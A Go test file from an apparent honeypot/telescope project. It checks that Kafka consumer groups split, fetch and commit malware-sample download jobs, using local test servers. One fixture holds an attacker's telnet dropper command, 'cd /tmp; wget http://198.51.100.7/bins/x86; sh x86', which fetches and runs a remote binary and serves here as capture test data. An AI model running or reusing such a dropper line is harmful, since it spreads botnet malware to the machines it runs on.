package download

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"slices"
	"sync"
	"testing"
	"time"

	"github.com/twmb/franz-go/pkg/kadm"
	"github.com/twmb/franz-go/pkg/kfake"
	"github.com/twmb/franz-go/pkg/kgo"

	"github.com/spoki-telescope/spoki/records"
)

// The brokers here are franz-go's in-process kfake cluster, the servers
// httptest servers on 127.0.0.1.

// hitServer counts the requests per path and serves a body per path.
type hitServer struct {
	*httptest.Server
	mu   sync.Mutex
	hits map[string]int
}

func newHitServer(t *testing.T) *hitServer {
	t.Helper()
	s := &hitServer{hits: map[string]int{}}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		s.hits[r.URL.Path]++
		s.mu.Unlock()
		fmt.Fprintf(w, "#!/bin/sh\n# sample %s\n", r.URL.Path)
	}))
	t.Cleanup(s.Close)
	return s
}

func (s *hitServer) hitsOf(path string) int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.hits[path]
}

// downloaderEvent is the `downloader` event line of a wget of u seen from
// src, as the handlers emit it.
func downloaderEvent(t *testing.T, s *hitServer, src netip.Addr, path string) []byte {
	t.Helper()
	addr := s.Listener.Addr().String()
	ap := netip.MustParseAddrPort(addr)
	flow := &records.Flow{Remote: netip.AddrPortFrom(src, 40000), Local: netip.MustParseAddrPort("192.0.2.1:80")}
	line, err := records.AppendEvent(nil, "downloader", time.Unix(1700000000, 0), flow, map[string]any{
		"app_proto": "http", "source": "request_line", "tool": "wget", "url": "http://" + addr + path,
		"server": ap.Addr().String(), "port": ap.Port(), "name": path[1:],
	})
	if err != nil {
		t.Fatal(err)
	}
	return line
}

// produce writes the lines to topic, keyed by their source as
// records/kafkasink keys them.
func produce(t *testing.T, addrs []string, topic string, srcs []netip.Addr, lines [][]byte) {
	t.Helper()
	cl, err := kgo.NewClient(kgo.SeedBrokers(addrs...), kgo.RecordPartitioner(kgo.StickyKeyPartitioner(nil)))
	if err != nil {
		t.Fatal(err)
	}
	defer cl.Close()
	var rs []*kgo.Record
	for i, l := range lines {
		rs = append(rs, &kgo.Record{Topic: topic, Key: []byte(srcs[i].String()), Value: l})
	}
	if err := cl.ProduceSync(context.Background(), rs...).FirstErr(); err != nil {
		t.Fatal(err)
	}
}

// admin returns a kadm client for the cluster.
func admin(t *testing.T, addrs []string) *kadm.Client {
	t.Helper()
	cl, err := kgo.NewClient(kgo.SeedBrokers(addrs...))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(cl.Close)
	return kadm.NewClient(cl)
}

// committed returns the group's committed offsets of topic, by partition.
func committed(t *testing.T, adm *kadm.Client, group, topic string) map[int32]int64 {
	t.Helper()
	offs, err := adm.FetchOffsets(context.Background(), group)
	if err != nil {
		t.Fatal(err)
	}
	out := map[int32]int64{}
	for p, o := range offs[topic] {
		if o.Err == nil {
			out[p] = o.At
		}
	}
	return out
}

// waitFor polls cond until it holds or the deadline passes.
func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// member is one fetcher: a Downloader with its own store, fed by a
// Consumer of the group.
type member struct {
	d    *Downloader
	c    *Consumer
	mu   sync.Mutex
	urls []string
	done chan error
}

func startMember(t *testing.T, ctx context.Context, addrs []string, group, topic string,
	hook func(n int) error) *member {
	t.Helper()
	d, err := New(Config{Dir: t.TempDir(), Timeout: 5 * time.Second, Allow: allowLoopback})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { d.Close() })
	c, err := NewConsumer(KafkaConfig{Brokers: addrs, Group: group, Topics: []string{topic}})
	if err != nil {
		t.Fatal(err)
	}
	m := &member{d: d, c: c, done: make(chan error, 1)}
	go func() {
		m.done <- c.Run(ctx, func(ctx context.Context, tg Target) error {
			r, err := d.Handle(ctx, tg)
			if err != nil {
				return err
			}
			if r.Kind != KindSuccess {
				t.Errorf("%s: %s %s", tg.URL, r.Kind, r.Status)
			}
			m.mu.Lock()
			m.urls = append(m.urls, tg.URL)
			n := len(m.urls)
			m.mu.Unlock()
			if hook != nil {
				return hook(n)
			}
			return nil
		})
	}()
	return m
}

func (m *member) got() []string {
	m.mu.Lock()
	defer m.mu.Unlock()
	return slices.Clone(m.urls)
}

func TestKafkaTopic(t *testing.T) {
	// The format of records/kafkasink.Topic, which this package may not
	// import.
	if got := KafkaTopic("lab.", "ucsd", "downloader"); got != "lab.spoki.ucsd.downloader" {
		t.Errorf("KafkaTopic = %q", got)
	}
	if got := KafkaTopic("", "", "session"); got != "spoki.untagged.session" {
		t.Errorf("KafkaTopic without tag = %q", got)
	}
}

func TestKafkaTargets(t *testing.T) {
	s := newHitServer(t)
	src := netip.MustParseAddr("203.0.113.4")
	sess, err := records.AppendSessionEvent(nil, &records.Session{
		Flow: records.Flow{Remote: netip.AddrPortFrom(src, 5), Local: netip.MustParseAddrPort("192.0.2.1:23"), Accepted: time.Unix(9, 0)},
		End:  time.Unix(10, 0), AppProto: "telnet", Payload: []byte("cd /tmp; wget http://198.51.100.7/bins/x86; sh x86"),
	})
	if err != nil {
		t.Fatal(err)
	}
	c := &Consumer{}
	ts := c.targets(downloaderEvent(t, s, src, "/a.sh"))
	if len(ts) != 1 || ts[0].URL != s.URL+"/a.sh" || ts[0].Saddr != src.String() || ts[0].Tag != "downloader" ||
		ts[0].TS != 1700000000000 || ts[0].Name != "a.sh" || ts[0].Tool != "wget" {
		t.Errorf("downloader event: %+v", ts)
	}
	ts = c.targets(sess)
	if len(ts) != 1 || ts[0].URL != "http://198.51.100.7/bins/x86" || ts[0].Tag != "session" || ts[0].Dport != 23 {
		t.Errorf("session event: %+v", ts)
	}
	if ts = c.targets([]byte("not json")); len(ts) != 0 || c.Stats.BadRecords != 1 {
		t.Errorf("junk: %+v, stats %+v", ts, c.Stats)
	}
}

// TestKafkaGroupSplits runs two members of one group: they share the
// downloads, every URL is fetched once overall, and every offset is
// committed.
func TestKafkaGroupSplits(t *testing.T) {
	const (
		n     = 40
		group = "fetchers"
	)
	topic := KafkaTopic("", "g", DefaultKafkaEventType)
	c := newKfake(t, kfake.SeedTopics(4, topic))
	addrs := c.ListenAddrs()
	adm := admin(t, addrs)
	s := newHitServer(t)

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	a := startMember(t, ctx, addrs, group, topic, nil)
	b := startMember(t, ctx, addrs, group, topic, nil)
	defer a.c.Close()
	defer b.c.Close()
	// Produce only once both hold partitions, so that neither gets all of
	// them by joining first.
	waitFor(t, "two members with partitions", func() bool {
		gs, err := adm.DescribeGroups(ctx, group)
		if err != nil {
			return false
		}
		g := gs[group]
		if g.State != "Stable" || len(g.Members) != 2 {
			return false
		}
		for _, m := range g.Members {
			ca, ok := m.Assigned.AsConsumer()
			if !ok || len(ca.Topics) == 0 || len(ca.Topics[0].Partitions) == 0 {
				return false
			}
		}
		return true
	})

	var srcs []netip.Addr
	var lines [][]byte
	for i := range n {
		src := netip.AddrFrom4([4]byte{198, 51, 100, byte(i + 1)})
		srcs = append(srcs, src)
		lines = append(lines, downloaderEvent(t, s, src, fmt.Sprintf("/s%d.sh", i)))
	}
	produce(t, addrs, topic, srcs, lines)
	waitFor(t, "all URLs fetched", func() bool { return len(a.got())+len(b.got()) >= n })
	waitFor(t, "all offsets committed", func() bool {
		var sum int64
		for _, o := range committed(t, adm, group, topic) {
			sum += o
		}
		return sum == n
	})
	cancel()
	for _, m := range []*member{a, b} {
		if err := <-m.done; !errors.Is(err, context.Canceled) {
			t.Errorf("Run = %v, want context.Canceled", err)
		}
	}
	t.Logf("member a fetched %d, member b %d", len(a.got()), len(b.got()))
	if len(a.got()) == 0 || len(b.got()) == 0 || len(a.got())+len(b.got()) != n {
		t.Errorf("members fetched %d and %d URLs, want both some and %d in all", len(a.got()), len(b.got()), n)
	}
	for i := range n {
		if h := s.hitsOf(fmt.Sprintf("/s%d.sh", i)); h != 1 {
			t.Errorf("/s%d.sh fetched %d times, want once", i, h)
		}
	}
	if a.d.Stats.Stored+b.d.Stats.Stored != n {
		t.Errorf("stored %d+%d samples, want %d", a.d.Stats.Stored, b.d.Stats.Stored, n)
	}
}

// TestKafkaRedelivery kills a member after it fetched a URL but before it
// committed the record: the next member gets that record again, and not the
// one committed before it.
func TestKafkaRedelivery(t *testing.T) {
	const group = "fetchers"
	topic := KafkaTopic("", "r", DefaultKafkaEventType)
	c := newKfake(t, kfake.SeedTopics(1, topic))
	addrs := c.ListenAddrs()
	adm := admin(t, addrs)
	s := newHitServer(t)
	var srcs []netip.Addr
	var lines [][]byte
	for i := range 3 {
		src := netip.AddrFrom4([4]byte{198, 51, 100, byte(i + 1)})
		srcs = append(srcs, src)
		lines = append(lines, downloaderEvent(t, s, src, fmt.Sprintf("/r%d.sh", i)))
	}
	produce(t, addrs, topic, srcs, lines)

	errKilled := errors.New("killed before the commit")
	ctx := context.Background()
	a := startMember(t, ctx, addrs, group, topic, func(n int) error {
		if n == 2 {
			return errKilled // the fetch of /r1.sh is in the store, its offset not committed
		}
		return nil
	})
	if err := <-a.done; !errors.Is(err, errKilled) {
		t.Fatalf("member a: Run = %v, want errKilled", err)
	}
	a.c.Close()
	if got := committed(t, adm, group, topic)[0]; got != 1 {
		t.Fatalf("committed offset after member a: %d, want 1", got)
	}

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	b := startMember(t, ctx, addrs, group, topic, nil)
	defer b.c.Close()
	waitFor(t, "member b's commits", func() bool { return committed(t, adm, group, topic)[0] == 3 })
	cancel()
	<-b.done
	want := []string{s.URL + "/r1.sh", s.URL + "/r2.sh"}
	if got := b.got(); !slices.Equal(got, want) {
		t.Errorf("member b handled %v, want %v", got, want)
	}
	if h0, h1 := s.hitsOf("/r0.sh"), s.hitsOf("/r1.sh"); h0 != 1 || h1 != 2 {
		t.Errorf("fetches of /r0.sh, /r1.sh: %d, %d; want 1 (committed) and 2 (redelivered)", h0, h1)
	}
}

// newKfake starts a kfake cluster and closes it at the end of the test.
func newKfake(t *testing.T, opts ...kfake.Opt) *kfake.Cluster {
	t.Helper()
	c, err := kfake.NewCluster(append([]kfake.Opt{kfake.NumBrokers(1)}, opts...)...)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(c.Close)
	return c
}
